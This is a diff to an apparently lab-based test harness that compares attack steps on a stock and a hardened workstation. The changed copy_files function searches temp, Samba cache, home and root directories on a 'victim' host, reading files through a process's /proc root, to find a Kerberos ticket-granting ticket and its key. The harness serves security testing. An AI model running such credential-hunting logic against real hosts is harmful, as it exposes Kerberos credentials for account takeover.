@@ -3,6 +3,7 @@
 the same function against the stock and against the guarded workstation. Each
 returns the loot's description, or None when the last step was refused."""
 import contextlib
+import pathlib
 import subprocess
 import tempfile
 import time
@@ -69,8 +70,14 @@ def copy_files(victim):
     names = labtest.on(victim.host, 'find', '/tmp', '/run', '/var/tmp',
                        '/var/lib/samba', '/var/cache', '/home', '/root',
                        '-type', 'f', '-size', '-4096k').stdout.split()
+    root = pathlib.Path(
+        f'/proc/{labtest.state.keeper(victim.host)}/root')
     for name in names:
-        if 'lab/' not in name and victim.is_in(read_file(victim.host, name)):
+        try:
+            data = (root / name.lstrip('/')).read_bytes()
+        except FileNotFoundError:
+            continue
+        if 'lab/' not in name and victim.is_in(data):
             return f'{name} has the TGT and its key'
     return None
 
